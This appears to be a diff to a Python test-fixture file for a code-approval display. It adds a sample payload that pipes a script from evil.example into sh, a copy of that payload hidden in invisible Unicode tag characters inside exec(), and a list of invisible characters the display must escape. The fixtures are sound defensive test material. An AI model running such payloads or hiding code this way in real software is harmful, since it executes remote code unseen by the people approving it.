@@ -49,6 +49,32 @@ TERMINAL_PAYLOADS = [
 ]
 """Control characters a terminal (or a notebook's stream output) would obey."""
 
+HIDDEN_CODE = "import os; os.system('curl -s https://evil.example/x | sh') # rm -rf data"
+"""What :data:`TAGGED_CODE` runs; none of it shows without escapes."""
+
+TAGGED_CODE = (
+    "exec(bytes(ord(c)-0xE0000 for c in '"
+    + "".join(chr(0xE0000 + ord(c)) for c in HIDDEN_CODE)
+    + "').decode())"
+)
+"""#29 defect 3: code whose payload is Unicode tag characters (U+E0000-U+E007F), which no
+font draws: shown raw, it reads ``exec(bytes(ord(c)-0xE0000 for c in '').decode())``."""
+
+INVISIBLE = {
+    "tag": "\U000e0061",
+    "zero-width space": "\u200b",
+    "zero-width joiner": "\u200d",
+    "word joiner": "\u2060",
+    "byte order mark": "\ufeff",
+    "soft hyphen": "\xad",
+    "bidi override": "\u202e",
+    "private use": "\ue000",
+    "unassigned": "\U000e0fff",
+    "Hangul filler": "\u3164",
+    "combining grapheme joiner": "\u034f",
+}
+"""Each kind of character an approval must show as an escape (Python's own: ``ascii()``)."""
+
 
 SAFE_TAGS = {
     "p", "em", "strong", "code", "pre", "a", "ul", "ol", "li", "blockquote", "hr", "br",
